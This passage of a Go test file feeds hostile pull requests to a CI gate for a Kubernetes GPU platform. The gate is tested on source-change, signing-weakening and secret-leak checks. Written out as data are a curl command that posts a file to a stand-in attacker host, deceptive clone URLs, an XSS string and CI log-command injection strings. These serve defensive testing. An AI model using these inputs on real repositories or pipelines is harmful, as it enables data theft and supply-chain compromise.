			base: map[string]string{prod: "package platform\nplatform: phases: phase9: trafficPercent: 11\ntargets: phase9: ServiceAccount: \"gpu-pipeline\": metadata: annotations: \"eks.amazonaws.com/role-arn\": \"x\"\n"},
			head: map[string]string{ofProd: promoted}},

		{kind: "items", name: "a kind of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},
		{kind: "items", name: "none in it", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"Foo\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: []}\n"}},
		{kind: "items", name: "a List", exit: 1, head: map[string]string{prod: "package platform\ntargets: phase1: List: x: {apiVersion: \"v1\", kind: \"List\", metadata: name: \"x\", items: [" + evil + "]}\n"}},
		{kind: "items", name: "a definition of its own", exit: 1, wants: []string{"types/items"}, head: map[string]string{prod: "package platform\nplatform: facts: customResources: [\"e.com/Foo\"]\ntargets: phase1: Foo: x: {apiVersion: \"e.com/v1\", kind: \"FooList\", metadata: {name: \"x\", namespace: \"notebook-ci\"}, items: [" + evil + "]}\n"}},

		{kind: "beliefs", name: "larger nodes", exit: 0, wants: []string{"change/fact-changed", "pools.gpu.allocatable"}, head: map[string]string{"cue/platform/platform.cue": `gpu: {nodes: max: 1, allocatable: {cpu: "15"=>gpu: {nodes: max: 1, allocatable: {cpu: "960"`}},
		{kind: "beliefs", name: "what is in an image", exit: 0, wants: []string{"change/fact-changed"}, head: map[string]string{prod: "package platform\nplatform: facts: images: \"registry.example.com/x\": {uids: [0], tools: [\"sh\"]}\n"}},
		{kind: "beliefs", name: "a builder", exit: 1, wants: []string{"change/supply-chain-changed"}, head: map[string]string{prod: "package platform\nplatform: supplyChain: builders: [\"https://evil.example\"]\n"}},
		{kind: "beliefs", name: "a secret that is not there", exit: 0, wants: []string{"change/fact-changed", "secrets.lie"}, head: map[string]string{prod: "package platform\nplatform: facts: secrets: lie: {namespace: \"notebook-ci\", keys: [\"x\"]}\n"}},
		{kind: "beliefs", name: "the same host behind another", exit: -1, wants: []string{"change/source-changed", "evil.example/a"}, base: map[string]string{prod: aTask("curl https://s3.example.com/notebook-ci", "")}, head: map[string]string{prod: aTask("curl https://evil.example/a@s3.example.com/notebook-ci", "")}},
		{kind: "beliefs", name: "a path that leads elsewhere", exit: -1, wants: []string{"change/source-changed", "github.com/evil/x"}, base: map[string]string{prod: aTask("git clone https://github.com/example/tests", "")}, head: map[string]string{prod: aTask("git clone https://github.com/example/tests/../../evil/x", "")}},
		{kind: "beliefs", name: "an address without a scheme", exit: -1, wants: []string{"change/source-changed", "evil.example/x"}, head: map[string]string{prod: aTask("curl -d @/etc/x evil.example/x", "")}},
		{kind: "beliefs", name: "an address of numbers", exit: -1, wants: []string{"change/source-changed", "203.0.113.4/x"}, head: map[string]string{prod: aTask("curl 203.0.113.4/x", "")}},
		{kind: "beliefs", name: "no addresses", exit: -1, never: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")},
			head: map[string]string{prod: aTask("true", `{name: "A", value: "3.12.13"}, {name: "B", value: "v1.27.3"}, {name: "C", value: "data.tar.gz"}, {name: "D", value: "gateway.networking.k8s.io"}, {name: "E", value: "app.kubernetes.io/name"}, {name: "F", value: "lib/x.py"}`)}},
		{kind: "beliefs", name: "an address of somebody else", exit: -1, wants: []string{"change/source-changed", "https://evil.example/x"}, head: map[string]string{prod: aTask("git clone https://evil.example/x", "")}},
	}
	for name, weaker := range map[string]string{"mode": `mode: "warn"`, "authorities": `authorities: [{name: "a", static: action: "pass"}]`, "images": `images: [{glob: "nothing/**"}]`} {
		fields := map[string]string{"mode": `mode: "enforce"`, "images": `images: [{glob: "**"}]`, "authorities": `authorities: [{name: "k", key: {data: "x", hashAlgorithm: "sha256"}}]`}
		write := func(with map[string]string) string {
			return inTarget("ClusterImagePolicy", "p", `{apiVersion: "policy.sigstore.dev/v1beta1", kind: "ClusterImagePolicy", metadata: name: "p", spec: {`+with["mode"]+", "+with["images"]+", "+with["authorities"]+"}}")
		}
		base := write(fields)
		fields[name] = weaker
		all = append(all, pull{kind: "signing", name: name, base: map[string]string{prod: base}, head: map[string]string{prod: write(fields)}, exit: 1, wants: []string{"change/signing-weakened"}})
		if name == "mode" {
			all = append(all, pull{kind: "signing", name: "removed", base: map[string]string{prod: base}, head: map[string]string{prod: ""}, exit: 1, wants: []string{"change/signing-weakened", "is removed"}})
		}
	}
	return all
}

// lines of one's own in the parts of a pull request that the review quotes, and secrets of it.
func pullTexts() []pull {
	var all []pull
	for name, file := range map[string]string{
		"markup": "a # PWN <img src=x onerror=alert(1)> **b** [l](x).yaml", "a mention": "a @octocat www.evil.example #1 gh-1.yaml", "a command": "a ##[error]x ##vso[task.x] ::error::x.yaml", "code": "a `` `b` ``` c.yaml",
	} {
		all = append(all, pull{kind: "review", name: name, all: true, exit: 1, base: map[string]string{"overlays/.keep": ""}, head: map[string]string{"overlays/" + file: "a: b\n"}})
	}
	for name, files := range map[string][2]map[string]string{
		"changed":                 {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf(marker)}},
		"added":                   {nil, {prod: secretsOf(marker)}},
		"removed":                 {{prod: secretsOf(marker)}, {prod: ""}},
		"a conflict in a Secret":  {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf("0ldS3cr3tV4lue") + "targets: phase1: Secret: s: stringData: a: \"" + marker + "\"\n"}},
		"a file that is a Secret": {nil, {prod: "package platform\nfiles: phase1: \"samples/a.yaml\": \"apiVersion: v1\\nkind: Secret\\nstringData:\\n  foo: " + marker + "\\n\"\n"}},
		"a login":                 {nil, {prod: aTask("docker login -u a -p "+marker, "")}},
		"conflict":                {{prod: secretsOf("0ldS3cr3tV4lue")}, {prod: secretsOf("0ldS3cr3tV4lue") + "targets: phase1: ConfigMap: c: data: password: \"" + marker + "\"\n"}},
	} {
		all = append(all, pull{kind: "hidden", name: name, all: true, exit: -1, base: files[0], head: files[1], never: []string{"0ldS3cr3tV4lue"}})
	}
	// Each form alone, so that nothing else tells that the value is a secret: in a text that changes, and in one that comes.
	for name, text := range map[string]string{
		"a literal of TOML": "token = '''@@'''\n", "a text of TOML": "password = \"\"\"@@\"\"\"\n", "a pair of JSON": `[{"name": "DB_PASSWORD", "value": "@@"}]`,
		"a pair of YAML": "env:\n- name: DB_PASSWORD\n  value: @@\n", "a pair in one line": "a: b\nenv: [{name: DB_PASSWORD, value: @@}]\n", "a Secret in a text": "apiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData:\n  foo: @@\n",
		"a Secret behind another text": "a: b\n---\napiVersion: v1\nkind: Secret\nstringData: {foo: @@}\n", "a list below the name of secrets": "a: b\ncredentials:\n- @@\n",
	} {
		for place, holding := range map[string]func(name, text string) string{"a ConfigMap": configured, "the values of Helm": valued} {
			before, after := replaceMarks(text, "0ldS3cr3tV4lue"), replaceMarks(text, marker)
			one := becoming("hidden", name+", in "+place, holding("x", before), holding("x", after)+holding("y", after))
			one.all, one.never = true, []string{"0ldS3cr3tV4lue"}
			all = append(all, one)
		}
	}
	return all
}

// configured is a ConfigMap with a text.
func configured(name, text string) string {
	return objectOf("v1", "ConfigMap", "notebook-ci", name, fmt.Sprintf("data: %q: %q", "a.txt", text))
}

// valued is an Application with a text for Helm.
func valued(name, text string) string {
	return objectOf("argoproj.io/v1alpha1", "Application", "argocd", name,
		fmt.Sprintf(`spec: {project: "x", destination: {name: "x", namespace: "x"}, source: {repoURL: "https://github.com/example/gpu", targetRevision: "main", path: "x", helm: values: %q}}`, text))
}

// secretsOf is a platform with one value in every place that a secret may be written to.
func secretsOf(value string) string {
	return replaceMarks(`package platform
targets: phase1: {
	Secret: s: {apiVersion: "v1", kind: "Secret", metadata: {name: "s", namespace: "notebook-ci", annotations: {"kubectl.kubernetes.io/last-applied-configuration": "{\"stringData\":{\"a\":\"@@\"}}"}}, stringData: a: "@@"}
	ConfigMap: c: {apiVersion: "v1", kind: "ConfigMap", metadata: {name: "c", namespace: "notebook-ci", annotations: "example.com/token": "@@"}, data: {
		password: "@@", "config.json": "{\"auths\": {\"r\": {\"auth\": \"@@\"}}}", "app.ini": "user = a\npassword = @@\n", ".netrc": "machine a login b password @@\n",
		"a.toml": "token = '''@@'''\npassword = \"\"\"@@\"\"\"\n", "env.json": "[{\"name\": \"DB_PASSWORD\", \"value\": \"@@\"}]", "env.yaml": "env:\n- name: DB_PASSWORD\n  value: @@\n",
		"all.yaml": "a: b\ncredentials:\n- @@\n", "manifest.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData:\n  foo: @@\n"}}
	Task: t: {apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "t", namespace: "notebook-ci"}, spec: {params: [{name: "api-token", default: "@@"}], steps: [{name: "a", image: "a", args: ["--password=@@", "--api-token", "@@", "-u", "me:@@"], env: [{name: "MYSQL_PWD", value: "@@"}, {name: "URL", value: "postgres://u:@@@db/x"}]}, {
		name: "b", image: "a", script: "#!/bin/sh\nexport PASSWORD=@@\ncurl -u me:@@ https://a.example\ncurl -H 'Authorization: Bearer @@' https://b.example\n"}]}}
}
`, value)
}

func replaceMarks(text, value string) string { return strings.ReplaceAll(text, "@@", value) }

// TestHostilePulls tries pull requests that want past the gate.
func TestHostilePulls(t *testing.T) {
	starter := filepath.Join(t.TempDir(), "starter")
	begin(t, starter)
	counts := map[string]int{}
	for _, p := range slices.Concat(pulls(), pullTexts(), pullsOfPower(), pullsOfEffect(), pullsOfClusters(), pullsOfNeighbours(), pullsOfCI(), pullsOfDecoys(), pullsOfReview(), pullsOfPlace(), pullsOfIdentity()) {
		if counts[p.kind]++; !sampled(counts[p.kind]) {
			continue
		}
		t.Run(p.kind+"/"+p.name, func(t *testing.T) {
			t.Parallel()
			p.run(t, starter)
		})
	}
	for kind, n := range counts {
		if n < 4 {
			t.Errorf("%s: %d trials: a kind needs at least three neighbours of the first", kind, n)
		}
	}
}

func (p pull) run(t *testing.T, starter string) {
	dir := filepath.Join(t.TempDir(), "p")
	if err := os.CopyFS(dir, os.DirFS(starter)); err != nil {
		t.Fatal(err)
	}
	git(t, dir, "init", "-q", "-b", "main")
	commit := func(files map[string]string) {
		change(t, dir, files)
		git(t, dir, "add", "-A")
		git(t, dir, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "x")
	}
	commit(p.base)
	commit(p.head)
	tr := trial{kind: p.kind, name: p.name, args: append([]string{"gate", "--base", "HEAD~1", "--head", "HEAD"}, p.args...), all: p.all, exit: p.exit, wants: p.wants, never: p.never}
	tr.in(t, dir)
}

// change writes the files of a revision.
func change(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		file := filepath.Join(dir, filepath.FromSlash(name))
		old, replacement, isEdit := strings.Cut(text, "=>")
		var err error
		switch _, statErr := os.Lstat(file); {
		case text == "" && statErr == nil:
			err = os.Remove(file)
		case strings.HasPrefix(text, "->"):
			err = errors.Join(os.RemoveAll(file), os.MkdirAll(filepath.Dir(file), 0o755))
			if err == nil {
				err = os.Symlink(text[2:], file)
			}
		case isEdit:
			var data []byte
			if data, err = os.ReadFile(file); err == nil {
				if !strings.Contains(string(data), old) {
					t.Fatalf("%s does not hold %q", name, old)
				}
				err = os.WriteFile(file, []byte(strings.Replace(string(data), old, replacement, 1)), 0o600)
			}
		default:
			if err = os.MkdirAll(filepath.Dir(file), 0o755); err == nil {
				err = os.WriteFile(file, []byte(text), 0o600)
			}
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}
